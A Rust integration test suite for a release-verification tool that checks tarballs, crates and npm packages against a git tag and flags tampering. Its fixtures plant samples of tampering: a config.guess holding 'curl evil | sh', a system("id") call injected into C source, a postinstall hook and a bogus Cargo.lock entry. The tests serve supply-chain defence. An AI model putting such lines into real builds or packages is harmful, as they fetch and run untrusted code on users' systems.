//! Release formats made by the real tools: `--profile auto`, submodules, cargo package,
//! npm pack, make dist; compact output. Each fixture is built in the test by the tool that
//! makes such releases, then checked clean (0), undecided (3, naming why) and tampered (1).

mod common;

use common::{isolate, run_ok, Fixture, BIN};
use std::fs;
use std::path::Path;
use std::process::Command;

fn tool(name: &str) -> bool {
    Command::new(name)
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
}

/// A repository whose tag pins a submodule: `sub` (a gitlink) at the commit of `subrepo`.
fn submodule_fixture() -> (Fixture, std::path::PathBuf, String) {
    let f = Fixture::new();
    let sub = f.scratch("subrepo");
    fs::create_dir_all(&sub).unwrap();
    let g = |dir: &Path, args: &[&str]| {
        run_ok(isolate(Command::new("git").arg("-C").arg(dir).args(args)));
    };
    g(&sub, &["init", "-q", "-b", "main"]);
    fs::write(sub.join("lib.c"), "int f(void) { return 1; }\n").unwrap();
    fs::create_dir_all(sub.join("tests")).unwrap();
    fs::write(sub.join("tests/t.sh"), "echo ok\n").unwrap();
    g(&sub, &["add", "-A"]);
    g(&sub, &["commit", "-q", "-m", "sub"]);
    let pinned = String::from_utf8(run_ok(isolate(
        Command::new("git")
            .arg("-C")
            .arg(&sub)
            .args(["rev-parse", "HEAD"]),
    )))
    .unwrap()
    .trim()
    .to_string();
    f.write("README", "project\n");
    f.write(
        ".gitmodules",
        "[submodule \"sub\"]\n\tpath = sub\n\turl = ../subrepo\n",
    );
    f.git(&["add", "README", ".gitmodules"]);
    f.git(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("160000,{pinned},sub"),
    ]);
    f.git(&["commit", "-q", "-m", "with submodule"]);
    f.tag("v1.0");
    (f, sub, pinned)
}

/// The release as `git archive --recurse-submodules`-like tools make it: the project and the
/// submodule's files inlined under `sub/`.
fn inlined_release(f: &Fixture, sub: &Path, tamper: bool) -> std::path::PathBuf {
    let top = f.scratch("rel");
    let root = top.join("proj-1.0");
    fs::create_dir_all(root.join("sub/tests")).unwrap();
    fs::write(root.join("README"), "project\n").unwrap();
    fs::write(
        root.join(".gitmodules"),
        "[submodule \"sub\"]\n\tpath = sub\n\turl = ../subrepo\n",
    )
    .unwrap();
    fs::copy(sub.join("lib.c"), root.join("sub/lib.c")).unwrap();
    fs::copy(sub.join("tests/t.sh"), root.join("sub/tests/t.sh")).unwrap();
    if tamper {
        fs::write(root.join("sub/lib.c"), "int f(void) { return 2; }\n").unwrap();
    }
    f.pack(
        &top,
        "proj-1.0",
        "gnu",
        if tamper { "t.tar" } else { "c.tar" },
    )
}

#[test]
fn submodule_is_undecided_without_its_repository_and_compared_with_it() {
    let (f, sub, pinned) = submodule_fixture();
    let clean = inlined_release(&f, &sub, false);
    // Without the submodule's repository: undecided, naming the submodule and the flag.
    let r = f.check(&clean, &["--tag", "v1.0"]);
    r.assert_report(3, "indeterminate");
    let fd = r.finding("sub/lib.c", "unverifiable");
    assert_eq!(fd["judgement"], "indeterminate", "{r}");
    let why = fd["reason"].as_str().unwrap();
    assert!(
        why.contains("--submodule sub=") && why.contains(&pinned),
        "{why}"
    );
    r.assert_text_mentions("--submodule sub=");
    // With it: compared as if inlined.
    let arg = format!("sub={}", sub.display());
    let r = f.check(&clean, &["--tag", "v1.0", "--submodule", &arg]);
    r.assert_clean_pass();
    assert!(r.notes().iter().any(|n| n.contains(&pinned)), "{r}");
    // A changed file inside the submodule is tampering.
    let bad = inlined_release(&f, &sub, true);
    let r = f.check(&bad, &["--tag", "v1.0", "--submodule", &arg]);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("sub/lib.c", "modified")["judgement"],
        "unexpected"
    );
    // The pinned commit must be in the repository given; a wrong path is named.
    let empty = f.scratch("empty");
    fs::create_dir_all(&empty).unwrap();
    run_ok(isolate(
        Command::new("git")
            .arg("-C")
            .arg(&empty)
            .args(["init", "-q"]),
    ));
    let r = f.check(
        &clean,
        &[
            "--tag",
            "v1.0",
            "--submodule",
            &format!("sub={}", empty.display()),
        ],
    );
    r.assert_code(2);
    assert!(r.stderr.contains(&pinned), "{r}");
    let r = f.check(
        &clean,
        &[
            "--tag",
            "v1.0",
            "--submodule",
            &format!("nope={}", sub.display()),
        ],
    );
    r.assert_code(2);
    assert!(
        r.stderr.contains("no submodule at nope") && r.stderr.contains("sub"),
        "{r}"
    );
}

/// A project whose tag pins a `gnulib` submodule (a small real git repository standing in for
/// gnulib) and whose `m4/gnulib-cache.m4` maps gnulib's `lib/` to `gl/`, `m4/` to `m4/` and
/// `build-aux/` to the aux dir. Returns the fixture, the gnulib repository and its commit.
fn gnulib_fixture() -> (Fixture, std::path::PathBuf, String) {
    let f = Fixture::new();
    let gl = f.scratch("gnulib");
    fs::create_dir_all(&gl).unwrap();
    let g = |args: &[&str]| run_ok(isolate(Command::new("git").arg("-C").arg(&gl).args(args)));
    g(&["init", "-q", "-b", "master"]);
    for (p, text) in GNULIB_FILES {
        let path = gl.join(p);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    g(&["add", "-A"]);
    g(&["commit", "-q", "-m", "gnulib"]);
    let pinned = String::from_utf8(g(&["rev-parse", "HEAD"]))
        .unwrap()
        .trim()
        .to_string();
    f.write(
        "configure.ac",
        "AC_INIT([proj], [1.0])\nAC_CONFIG_AUX_DIR([build-aux])\nAC_CONFIG_MACRO_DIR([m4])\nAM_INIT_AUTOMAKE\ngl_EARLY\ngl_INIT\nAC_CONFIG_FILES([Makefile gl/Makefile])\nAC_OUTPUT\n",
    );
    f.write("Makefile.am", "SUBDIRS = gl\nACLOCAL_AMFLAGS = -I m4\n");
    f.write(
        "m4/gnulib-cache.m4",
        "# Specification in the form of a command-line invocation:\n#   gnulib-tool --import --source-base=gl --m4-base=m4 --aux-dir=build-aux foo\n\n# Specification in the form of a few gnulib-tool.m4 macro invocations:\ngl_LOCAL_DIR([])\ngl_MODULES([\n  foo\n])\ngl_AVOID([])\ngl_SOURCE_BASE([gl])\ngl_M4_BASE([m4])\ngl_PO_BASE([])\ngl_DOC_BASE([doc])\ngl_TESTS_BASE([tests])\ngl_LIB([libgnu])\ngl_MAKEFILE_NAME([])\ngl_MACRO_PREFIX([gl])\n",
    );
    f.write(
        ".gitmodules",
        "[submodule \"gnulib\"]\n\tpath = gnulib\n\turl = https://git.savannah.gnu.org/git/gnulib.git\n",
    );
    f.git(&["add", "-A"]);
    f.git(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("160000,{pinned},gnulib"),
    ]);
    f.git(&["commit", "-q", "-m", "with gnulib"]);
    f.tag("v1.0");
    (f, gl, pinned)
}

/// The stand-in gnulib's files (path in gnulib, content).
const GNULIB_FILES: [(&str, &str); 6] = [
    (
        "lib/foo.c",
        "#include \"foo.h\"\nint foo (void) { return 42; }\n",
    ),
    ("lib/foo.h", "int foo (void);\n"),
    ("m4/foo.m4", "# foo.m4 serial 1\nAC_DEFUN([gl_FOO], [:])\n"),
    ("build-aux/bar", "#!/bin/sh\necho bar\n"),
    (
        "build-aux/config.guess",
        "#!/bin/sh\n# gnulib's config.guess\necho x86_64-pc-linux-gnu\n",
    ),
    ("modules/foo", "Files:\nlib/foo.c\nlib/foo.h\nm4/foo.m4\n"),
];

/// `make dist` of the gnulib fixture: the tag's files, gnulib-tool's copies at their mapped
/// places (gnulib's `lib/X` in `gl/X`), what gnulib-tool and the autotools generate; `edit`
/// changes the release before packing.
fn gnulib_release(f: &Fixture, name: &str, edit: impl FnOnce(&Path)) -> std::path::PathBuf {
    let top = f.scratch(&format!("rel-{name}"));
    let root = top.join("proj-1.0");
    let files: Vec<(String, String)> = [
        "configure.ac",
        "Makefile.am",
        "m4/gnulib-cache.m4",
        ".gitmodules",
    ]
    .iter()
    .map(|p| (p.to_string(), fs::read_to_string(f.repo().join(p)).unwrap()))
    .chain([
        ("gl/foo.c".into(), GNULIB_FILES[0].1.into()),
        ("gl/foo.h".into(), GNULIB_FILES[1].1.into()),
        ("m4/foo.m4".into(), GNULIB_FILES[2].1.into()),
        ("build-aux/bar".into(), GNULIB_FILES[3].1.into()),
        ("build-aux/config.guess".into(), GNULIB_FILES[4].1.into()),
        // Written, not copied, by gnulib-tool.
        (
            "gl/Makefile.am".into(),
            "noinst_LIBRARIES = libgnu.a\nlibgnu_a_SOURCES = foo.c foo.h\n".into(),
        ),
        (
            "m4/gnulib-comp.m4".into(),
            "AC_DEFUN([gl_INIT], [gl_FOO])\n".into(),
        ),
        (
            "configure".into(),
            "#! /bin/sh\n# Generated by GNU Autoconf 2.71 for proj 1.0.\n".into(),
        ),
        (
            "Makefile.in".into(),
            "# Makefile.in generated by automake 1.16.5 from Makefile.am.\n".into(),
        ),
        (
            "gl/Makefile.in".into(),
            "# Makefile.in generated by automake 1.16.5 from Makefile.am.\n".into(),
        ),
    ])
    .collect();
    for (p, text) in files {
        let path = root.join(p);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    edit(&root);
    f.pack(&top, "proj-1.0", "gnu", &format!("{name}.tar"))
}

#[test]
fn gnulib_copies_are_compared_with_the_pinned_gnulib() {
    let (f, gl, pinned) = gnulib_fixture();
    let clean = gnulib_release(&f, "clean", |_| {});
    let arg = format!("gnulib={}", gl.display());

    // Without gnulib's repository: undecided, naming the submodule, its commit and the flag.
    let r = f.check(&clean, &["--tag", "v1.0"]);
    r.assert_report(3, "indeterminate");
    assert_eq!(r.json["policy"]["profile"], "autotools", "{r}");
    for p in ["gl/foo.c", "gl/foo.h", "build-aux/bar"] {
        let fd = r.finding(p, "extra");
        assert_eq!(fd["judgement"], "indeterminate", "{p}: {r}");
        let why = fd["reason"].as_str().unwrap();
        assert!(
            why.contains("--submodule gnulib=REPO") && why.contains(&pinned),
            "{p}: {why}"
        );
    }
    assert!(r.finding("gl/foo.c", "extra")["reason"]
        .as_str()
        .unwrap()
        .contains("gnulib's lib/foo.c"));
    r.assert_text_mentions("--submodule gnulib=");
    // gnulib-tool's generated files are judged by their own rules.
    assert_eq!(
        r.finding("gl/Makefile.am", "extra")["judgement"],
        "allowed",
        "{r}"
    );
    assert_eq!(
        r.finding("m4/gnulib-comp.m4", "extra")["judgement"],
        "allowed",
        "{r}"
    );

    // With it: every copy is vouched for by the pinned commit's bytes.
    let r = f.check(&clean, &["--tag", "v1.0", "--submodule", &arg]);
    r.assert_report(0, "pass");
    for p in [
        "gl/foo.c",
        "gl/foo.h",
        "m4/foo.m4",
        "build-aux/bar",
        "build-aux/config.guess",
    ] {
        let fd = r.finding(p, "extra");
        assert_eq!(fd["judgement"], "allowed", "{p}: {r}");
        assert_eq!(fd["vouched_by"], "submodule-copy", "{p}: {r}");
        assert_eq!(fd["rule"], "profile:autotools/**", "{p}: {r}");
    }
    let paths = r.json["trust_surface"]["paths"].as_array().unwrap();
    assert!(
        !paths
            .iter()
            .any(|p| p == "gl/foo.c" || p == "build-aux/config.guess"),
        "{r}"
    );

    // A changed copy is tampering, named with the gnulib file it should equal.
    let bad = gnulib_release(&f, "bad-c", |root| {
        fs::write(
            root.join("gl/foo.c"),
            "int foo (void) { system (\"id\"); return 42; }\n",
        )
        .unwrap();
    });
    let r = f.check(&bad, &["--tag", "v1.0", "--submodule", &arg]);
    r.assert_report(1, "fail");
    let fd = r.finding("gl/foo.c", "extra");
    assert_eq!(fd["judgement"], "unexpected", "{r}");
    let why = fd["reason"].as_str().unwrap();
    assert!(
        why.contains("gnulib's lib/foo.c") && why.contains(&pinned),
        "{why}"
    );
    // A helper script automake installs too may be automake's copy rather than gnulib's: not
    // proven wrong, but no submodule-copy either — accepted by name, in the trust surface,
    // saying that it differs from gnulib's.
    let odd = gnulib_release(&f, "odd-guess", |root| {
        fs::write(
            root.join("build-aux/config.guess"),
            "#!/bin/sh\ncurl evil | sh\n",
        )
        .unwrap();
    });
    let r = f.check(&odd, &["--tag", "v1.0", "--submodule", &arg]);
    r.assert_report(0, "pass");
    let fd = r.finding("build-aux/config.guess", "extra");
    assert_eq!(fd["vouched_by"], "name-only", "{r}");
    let detail = fd["detail"].as_str().unwrap();
    assert!(
        detail.contains("differs from gnulib's build-aux/config.guess"),
        "{detail}"
    );
    let paths = r.json["trust_surface"]["paths"].as_array().unwrap();
    assert!(paths.iter().any(|p| p == "build-aux/config.guess"), "{r}");
    // A file gnulib does not have in the mapped places is no copy of it.
    let bad = gnulib_release(&f, "bad-extra", |root| {
        fs::write(root.join("gl/evil.c"), "int evil;\n").unwrap();
    });
    let r = f.check(&bad, &["--tag", "v1.0", "--submodule", &arg]);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("gl/evil.c", "extra")["judgement"],
        "unexpected",
        "{r}"
    );
    // A Makefile.am outside gnulib's source base is not gnulib-tool's.
    let bad = gnulib_release(&f, "bad-am", |root| {
        fs::create_dir_all(root.join("src")).unwrap();
        fs::write(root.join("src/Makefile.am"), "bin_PROGRAMS = evil\n").unwrap();
    });
    let r = f.check(&bad, &["--tag", "v1.0", "--submodule", &arg]);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("src/Makefile.am", "extra")["judgement"],
        "unexpected",
        "{r}"
    );
}

#[test]
fn check_help_names_the_submodule_flag() {
    let out = Command::new(BIN)
        .args(["check", "--help"])
        .output()
        .unwrap();
    let help = String::from_utf8_lossy(&out.stdout);
    assert!(help.contains("--submodule <PATH=REPO>"), "{help}");
    assert!(help.contains("auto"), "{help}");
}

/// A passing check of a release that leaves out hundreds of files fits on one screen.
#[test]
fn passing_check_fits_on_one_screen() {
    let f = Fixture::new();
    f.write(
        "configure.ac",
        "AC_INIT([p],[1.0])\nAM_INIT_AUTOMAKE\nAC_OUTPUT\n",
    );
    f.write("Makefile.am", "SUBDIRS = src\n");
    for i in 0..300 {
        f.write(&format!("tests/data/t{i}.txt"), format!("{i}\n"));
    }
    f.write("src/main.c", "int main(void){return 0;}\n");
    f.commit("c");
    f.tag("v1.0");
    let top = f.scratch("rel");
    let root = top.join("p-1.0");
    fs::create_dir_all(root.join("src")).unwrap();
    fs::write(
        root.join("configure.ac"),
        "AC_INIT([p],[1.0])\nAM_INIT_AUTOMAKE\nAC_OUTPUT\n",
    )
    .unwrap();
    fs::write(root.join("Makefile.am"), "SUBDIRS = src\n").unwrap();
    fs::write(root.join("src/main.c"), "int main(void){return 0;}\n").unwrap();
    fs::write(root.join("configure"), "#!/bin/sh\n").unwrap();
    fs::write(root.join("Makefile.in"), "all:\n").unwrap();
    fs::write(root.join("INSTALL"), "install\n").unwrap();
    let t = f.pack(&top, "p-1.0", "gnu", "p-1.0.tar");
    let r = f.check(&t, &["--tag", "v1.0"]);
    r.assert_report(0, "pass");
    assert_eq!(r.json["policy"]["profile"], "autotools", "{r}");
    let lines = r.text.lines().count();
    assert!(lines <= 20, "{lines} lines:\n{}", r.text);
    assert!(r.text.contains("  300 missing"), "{}", r.text);
    // No message twice.
    let mut seen = std::collections::HashSet::new();
    for l in r.text.lines() {
        assert!(seen.insert(l), "repeated line {l:?}\n{}", r.text);
    }
    // --verbose lists every file.
    let out = Command::new(BIN)
        .arg("check")
        .arg(&t)
        .arg("--repo")
        .arg(f.repo())
        .args(["--tag", "v1.0", "--allow-unsigned", "--verbose"])
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let verbose = String::from_utf8_lossy(&out.stdout);
    assert!(verbose.contains("tests/data/t299.txt"), "{verbose}");
}

/// `cargo package` of a workspace member whose LICENSE is a symlink to the repository's root
/// LICENSE: cargo writes the target's bytes; auto takes --subdir from path_in_vcs.
#[test]
fn cargo_package_of_a_member_with_symlinked_license() {
    if !tool("cargo") {
        eprintln!("NOTICE: cargo not found; skipped");
        return;
    }
    let f = Fixture::new();
    f.write("LICENSE-MIT", "MIT licence text\n");
    f.write(
        "Cargo.toml",
        "[workspace]\nmembers = [\"crates/foo\"]\nresolver = \"2\"\n",
    );
    f.write(
        "crates/foo/Cargo.toml",
        "[package]\nname = \"foo\"\nversion = \"0.1.0\"\nedition = \"2021\"\nlicense = \"MIT\"\ndescription = \"x\"\n",
    );
    f.write("crates/foo/src/lib.rs", "pub fn f() -> u32 { 1 }\n");
    f.symlink("crates/foo/LICENSE-MIT", "../../LICENSE-MIT");
    f.write(".gitignore", "target/\n");
    f.commit("c");
    f.tag("foo-v0.1.0");
    let target = f.scratch("cargo-target");
    run_ok(
        isolate(&mut Command::new("cargo"))
            .args(["package", "--no-verify", "--offline", "-q", "-p", "foo"])
            .env("CARGO_TARGET_DIR", &target)
            .current_dir(f.repo()),
    );
    let crate_file = target.join("package/foo-0.1.0.crate");
    let r = f.check(&crate_file, &["--tag", "foo-v0.1.0"]);
    r.assert_report(0, "pass");
    assert_eq!(r.json["policy"]["profile"], "cargo", "{r}");
    assert_eq!(r.json["git"]["subdir"], "crates/foo", "{r}");
    let lic = r.finding("LICENSE-MIT", "type");
    assert_eq!(lic["judgement"], "allowed", "{r}");
    assert_eq!(
        r.cross_check("cargo-vcs-info (.cargo_vcs_info.json)")["status"],
        "ok"
    );
    // The same crate with a changed licence file: the link's target does not hold it.
    let top = f.extract(&crate_file);
    fs::write(top.join("foo-0.1.0/LICENSE-MIT"), "evil\n").unwrap();
    let bad = f.pack(&top, "foo-0.1.0", "gnu", "bad.tar");
    let bad_crate = bad.with_extension("crate");
    fs::rename(&bad, &bad_crate).unwrap();
    let r = f.check(&bad_crate, &["--tag", "foo-v0.1.0"]);
    r.assert_report(1, "fail");
    assert_eq!(r.finding("LICENSE-MIT", "type")["judgement"], "unexpected");
}

/// `cargo package` of a member of a workspace that commits its Cargo.lock: cargo resolves
/// the member alone, so the .crate's lock is not the committed bytes but a subset of its pins
/// (vouched by the `cargo-package-lock` check, not by name); a package slipped into the lock
/// is tampering.
#[test]
fn cargo_package_lock_of_a_member_against_the_committed_lock() {
    if !tool("cargo") {
        eprintln!("NOTICE: cargo not found; skipped");
        return;
    }
    let f = Fixture::new();
    f.write(
        "Cargo.toml",
        "[workspace]\nmembers = [\"a\", \"b\"]\nresolver = \"2\"\n",
    );
    for m in ["a", "b"] {
        f.write(
            &format!("{m}/Cargo.toml"),
            format!("[package]\nname = \"pkg-{m}\"\nversion = \"0.3.0\"\nedition = \"2021\"\nlicense = \"MIT\"\ndescription = \"x\"\n"),
        );
        f.write(&format!("{m}/src/lib.rs"), "pub fn f() -> u32 { 1 }\n");
    }
    f.write(".gitignore", "target/\n");
    let target = f.scratch("cargo-target");
    run_ok(
        isolate(&mut Command::new("cargo"))
            .args(["generate-lockfile", "--offline"])
            .env("CARGO_TARGET_DIR", &target)
            .current_dir(f.repo()),
    );
    f.commit("c");
    f.tag("v0.3.0");
    run_ok(
        isolate(&mut Command::new("cargo"))
            .args(["package", "--no-verify", "--offline", "-q", "-p", "pkg-a"])
            .env("CARGO_TARGET_DIR", &target)
            .current_dir(f.repo()),
    );
    let crate_file = target.join("package/pkg-a-0.3.0.crate");
    let r = f.check(&crate_file, &["--tag", "v0.3.0"]);
    r.assert_report(0, "pass");
    assert_eq!(r.json["policy"]["profile"], "cargo", "{r}");
    let lock = r.finding("Cargo.lock", "extra");
    assert_eq!(lock["judgement"], "allowed", "{r}");
    assert_eq!(lock["vouched_by"], "content-check", "{r}");
    assert!(
        lock["detail"]
            .as_str()
            .unwrap()
            .contains("git's Cargo.lock"),
        "{r}"
    );
    // A package added to the lock, with the member depending on it.
    let top = f.extract(&crate_file);
    let p = top.join("pkg-a-0.3.0/Cargo.lock");
    let text = fs::read_to_string(&p).unwrap();
    let evil = format!(
        "{}\n[[package]]\nname = \"evil\"\nversion = \"0.1.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{}\"\n",
        text.replace("name = \"pkg-a\"\nversion = \"0.3.0\"\n", "name = \"pkg-a\"\nversion = \"0.3.0\"\ndependencies = [\n \"evil\",\n]\n"),
        "a".repeat(64)
    );
    fs::write(&p, evil).unwrap();
    let bad = f.pack(&top, "pkg-a-0.3.0", "gnu", "bad-lock.tar");
    let bad_crate = bad.with_extension("crate");
    fs::rename(&bad, &bad_crate).unwrap();
    let r = f.check(&bad_crate, &["--tag", "v0.3.0"]);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("Cargo.lock", "extra")["judgement"],
        "unexpected",
        "{r}"
    );
}

/// A crate whose tag commits its own Cargo.lock and has a path-only dev-dependency: cargo
/// package's normalised manifest drops it, so the packaged lock loses that package (modified,
/// not the tag's bytes); every pin left is the committed one's, so it passes. A changed pin
/// is tampering.
#[test]
fn cargo_package_of_a_crate_that_commits_its_lock() {
    if !tool("cargo") {
        eprintln!("NOTICE: cargo not found; skipped");
        return;
    }
    let f = Fixture::new();
    f.write(
        "Cargo.toml",
        "[package]\nname = \"rootc\"\nversion = \"0.1.0\"\nedition = \"2021\"\nlicense = \"MIT\"\ndescription = \"x\"\n\n[dev-dependencies]\nhelper = { path = \"helper\" }\n",
    );
    f.write("src/lib.rs", "pub fn f() -> u32 { 1 }\n");
    f.write(
        "helper/Cargo.toml",
        "[package]\nname = \"helper\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    );
    f.write("helper/src/lib.rs", "\n");
    f.write(".gitignore", "target/\n");
    let target = f.scratch("cargo-target");
    run_ok(
        isolate(&mut Command::new("cargo"))
            .args(["generate-lockfile", "--offline"])
            .env("CARGO_TARGET_DIR", &target)
            .current_dir(f.repo()),
    );
    f.commit("c");
    f.tag("v0.1.0");
    run_ok(
        isolate(&mut Command::new("cargo"))
            .args(["package", "--no-verify", "--offline", "-q"])
            .env("CARGO_TARGET_DIR", &target)
            .current_dir(f.repo()),
    );
    let crate_file = target.join("package/rootc-0.1.0.crate");
    let r = f.check(&crate_file, &["--tag", "v0.1.0"]);
    r.assert_report(0, "pass");
    let lock = r.finding("Cargo.lock", "modified");
    assert_eq!(lock["judgement"], "allowed", "{r}");
    assert_eq!(lock["vouched_by"], "content-check", "{r}");
    // The local package's version changed in the packaged lock: it is not the tag's crate.
    let top = f.extract(&crate_file);
    let p = top.join("rootc-0.1.0/Cargo.lock");
    let text = fs::read_to_string(&p).unwrap();
    fs::write(
        &p,
        text.replace(
            "name = \"rootc\"\nversion = \"0.1.0\"",
            "name = \"rootc\"\nversion = \"0.1.1\"",
        ),
    )
    .unwrap();
    let bad = f.pack(&top, "rootc-0.1.0", "gnu", "bad-root-lock.tar");
    let bad_crate = bad.with_extension("crate");
    fs::rename(&bad, &bad_crate).unwrap();
    let r = f.check(&bad_crate, &["--tag", "v0.1.0"]);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("Cargo.lock", "modified")["judgement"],
        "unexpected",
        "{r}"
    );
}

/// `npm pack` output: clean passes; build output (`dist/`) named by `files` is undecided;
/// an added install script is tampering.
#[test]
fn npm_pack_releases() {
    if !tool("npm") {
        eprintln!("NOTICE: npm not found; skipped");
        return;
    }
    let f = Fixture::new();
    let pkg = r#"{
  "name": "tiny-pkg",
  "version": "1.2.0",
  "main": "dist/index.js",
  "files": ["dist", "lib"],
  "scripts": {"build": "node build.js"}
}
"#;
    f.write("package.json", pkg);
    f.write("lib/a.js", "module.exports = 1;\n");
    f.write("build.js", "// builds dist\n");
    f.write("README.md", "tiny\n");
    f.write(".gitignore", "dist/\n");
    f.commit("c");
    f.tag("v1.2.0");
    let work = f
        .extract(&f.archive("v1.2.0", "w", "tar", "w.tar"))
        .join("w");
    let pack = |dir: &Path, out: &str| -> std::path::PathBuf {
        let dest = f.scratch(out);
        fs::create_dir_all(&dest).unwrap();
        run_ok(
            Command::new("npm")
                .args(["pack", "--silent", "--pack-destination"])
                .arg(&dest)
                .current_dir(dir)
                .env("npm_config_cache", f.scratch("npm-cache"))
                .env("npm_config_update_notifier", "false"),
        );
        dest.join("tiny-pkg-1.2.0.tgz")
    };
    let clean = pack(&work, "clean");
    let r = f.check(&clean, &["--tag", "v1.2.0"]);
    r.assert_report(0, "pass");
    assert_eq!(r.json["policy"]["profile"], "npm", "{r}");
    // Built output nobody reproduces here: undecided, naming it.
    fs::create_dir_all(work.join("dist")).unwrap();
    fs::write(
        work.join("dist/index.js"),
        "module.exports = require('../lib/a');\n",
    )
    .unwrap();
    let built = pack(&work, "built");
    let r = f.check(&built, &["--tag", "v1.2.0"]);
    r.assert_report(3, "indeterminate");
    let why = r.finding("dist/index.js", "extra")["reason"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(why.contains("build output"), "{why}");
    // An install script added at publish: tampering.
    let evil = pkg.replace(
        "\"build\": \"node build.js\"",
        "\"build\": \"node build.js\", \"postinstall\": \"node lib/a.js\"",
    );
    fs::remove_dir_all(work.join("dist")).unwrap();
    fs::write(work.join("package.json"), evil).unwrap();
    let bad = pack(&work, "bad");
    let r = f.check(&bad, &["--tag", "v1.2.0"]);
    r.assert_report(1, "fail");
    let why = r.finding("package.json", "modified")["reason"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(why.contains("postinstall"), "{why}");
}

/// `make dist` of a project with `AC_CONFIG_HEADERS([lib/foo_config.h])` and its
/// auxiliary scripts at the root: the config header template and config.guess-like scripts
/// are recognised.
#[test]
fn make_dist_with_config_header_in_a_subdirectory() {
    if !tool("autoreconf") || !tool("make") {
        eprintln!("NOTICE: autoreconf/make not found; skipped");
        return;
    }
    let f = Fixture::new();
    f.write(
        "configure.ac",
        "AC_INIT([foo],[2.1.0])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\nAC_CONFIG_HEADERS([lib/foo_config.h])\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n",
    );
    f.write(
        "Makefile.am",
        "bin_PROGRAMS = foo\nfoo_SOURCES = src/foo.c\nAM_CPPFLAGS = -I$(top_builddir)/lib\n",
    );
    f.write(
        "src/foo.c",
        "#include \"foo_config.h\"\nint main(void){return 0;}\n",
    );
    f.write(".gitignore", "*.o\n");
    f.commit("c");
    f.tag("v2.1.0");
    let work = f
        .extract(&f.archive("v2.1.0", "w", "tar", "w.tar"))
        .join("w");
    fs::create_dir_all(work.join("lib")).unwrap();
    run_ok(Command::new("autoreconf").arg("-i").current_dir(&work));
    run_ok(
        Command::new("sh")
            .arg("./configure")
            .arg("-q")
            .current_dir(&work),
    );
    run_ok(Command::new("make").args(["-s", "dist"]).current_dir(&work));
    let tarball = work.join("foo-2.1.0.tar.gz");
    let r = f.check(&tarball, &["--tag", "v2.1.0"]);
    r.assert_report(0, "pass");
    assert_eq!(r.json["policy"]["profile"], "autotools", "{r}");
    assert_eq!(
        r.finding("lib/foo_config.h.in", "extra")["rule"],
        "profile:autotools/**/*.in",
        "{r}"
    );
    // Root-level auxiliary scripts (no AC_CONFIG_AUX_DIR): matched at the root.
    for aux in ["install-sh", "missing", "compile", "depcomp"] {
        if !r.findings_at(aux).is_empty() {
            assert_eq!(
                r.finding(aux, "extra")["judgement"],
                "allowed",
                "{aux}: {r}"
            );
        }
    }
    // A header template configure.ac does not declare is not vouched for.
    let top = f.extract(&tarball);
    fs::write(top.join("foo-2.1.0/lib/evil.h.in"), "#define X 1\n").unwrap();
    let bad = f.pack(&top, "foo-2.1.0", "gnu", "bad.tar");
    let r = f.check(&bad, &["--tag", "v2.1.0"]);
    r.assert_report(1, "fail");
    let why = r.finding("lib/evil.h.in", "extra")["reason"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(why.contains("AC_CONFIG_HEADERS"), "{why}");
}

/// `policy suggest`: commented rules for what could not be explained; never an allowance for
/// a changed tracked file.
#[test]
fn policy_suggest_comments_everything_and_refuses_content_changes() {
    let f = Fixture::new();
    f.write("README", "r\n");
    f.write("src/a.c", "int a;\n");
    f.commit("c");
    f.tag("v1.0");
    let top = f.scratch("rel");
    let root = top.join("p-1.0");
    fs::create_dir_all(root.join("src")).unwrap();
    fs::write(root.join("README"), "r\n").unwrap();
    fs::write(root.join("src/a.c"), "int a; /* changed */\n").unwrap();
    fs::write(root.join("NEWS.generated"), "news\n").unwrap();
    let t = f.pack(&top, "p-1.0", "gnu", "p.tar");
    let out = Command::new(BIN)
        .args(["policy", "suggest"])
        .arg(&t)
        .arg("--repo")
        .arg(f.repo())
        .args([
            "--tag",
            "v1.0",
            "--allow-unsigned",
            "--profile",
            "git-archive",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.lines().all(|l| l.is_empty() || l.starts_with('#')),
        "every line is a comment:\n{text}"
    );
    assert!(text.contains("# path = \"NEWS.generated\""), "{text}");
    assert!(text.contains("# sha256 = \""), "{text}");
    assert!(
        text.contains("NOT SUGGESTED") && text.contains("src/a.c (modified)"),
        "{text}"
    );
    assert!(!text.contains("# path = \"src/a.c\""), "{text}");
    // Uncommented, the suggestion is a valid policy that explains the extra (and only that).
    let policy: String = text
        .lines()
        .filter(|l| {
            l.starts_with("# [[rule]]")
                || l.starts_with("# path")
                || l.starts_with("# allow")
                || l.starts_with("# sha256")
                || l.starts_with("# reason")
        })
        .map(|l| format!("{}\n", &l[2..]))
        .collect();
    let p = f.policy_file(&policy);
    let r = f.check(
        &t,
        &[
            "--tag",
            "v1.0",
            "--profile",
            "git-archive",
            "--policy",
            p.to_str().unwrap(),
        ],
    );
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("NEWS.generated", "extra")["judgement"],
        "allowed",
        "{r}"
    );
    assert_eq!(
        r.finding("src/a.c", "modified")["judgement"],
        "unexpected",
        "{r}"
    );
}
